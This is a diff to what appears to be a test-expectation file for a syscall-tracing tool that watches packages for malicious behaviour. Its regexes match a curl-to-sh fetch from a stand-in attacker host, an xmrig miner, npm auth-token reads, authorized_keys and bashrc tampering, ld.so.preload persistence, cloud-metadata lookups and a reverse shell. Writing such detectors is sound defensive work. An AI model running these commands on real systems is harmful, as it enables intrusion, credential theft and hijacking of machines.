@@ -58,6 +58,17 @@ behaviour/persistence.log	/etc/ld\.so\.preload.*EACCES
 behaviour/persistence-v.log	execve\("/bin/true".*LD_PRELOAD=/tmp/libhook\.so
 behaviour/tamper.log	unlink\("/home/pkgtrace/\.bash_history"\) = 0
 behaviour/tamper.log	"/usr/bin/pkgtrace-helper".*EACCES
+behaviour/extras.log	execve\("/bin/sh", \["/bin/sh", "-c", "curl -s http://dl\.attacker\.example/i\.sh \| sh"\]
+behaviour/extras.log	execve\("/mnt/fakebin/xmrig", \[[^]]*"stratum\+tcp://
+behaviour/extras.log	execve\("/tmp/\.x/kworker".* = -1 EACCES
+behaviour/extras.log	execve\("/mnt/fakebin/npm", \["/mnt/fakebin/npm", "whoami"\]
+behaviour/extras.log	execve\("/mnt/fakebin/npm", \[[^]]*"config", "get", "//registry\.npmjs\.org/:_authToken"\]
+behaviour/extras.log	rename\("[^"]*", "/home/pkgtrace/\.ssh/authorized_keys"\) = 0
+behaviour/extras.log	symlink\("[^"]*", "/etc/ld\.so\.preload"\) = -1
+behaviour/extras.log	rename\("[^"]*", "/home/pkgtrace/\.bashrc"\) = 0
+behaviour/extras.log	sendto\(.*:53\]>.*\\10metadata\\6google\\10internal
+behaviour/extras.log	connect\(.*htons\(80\), sin_addr=inet_addr\("127\.53\.219\.7"\)
+behaviour/sinks.txt	dns udp A metadata\.google\.internal
 behaviour/sinks.txt	revshell 9001 got b'pwned-via-reverse-shell
 formats/f-o.log	^[0-9]+ +execve\("/bin/echo"
 formats/stderr-f.log	^\[pid +[0-9]+\] 
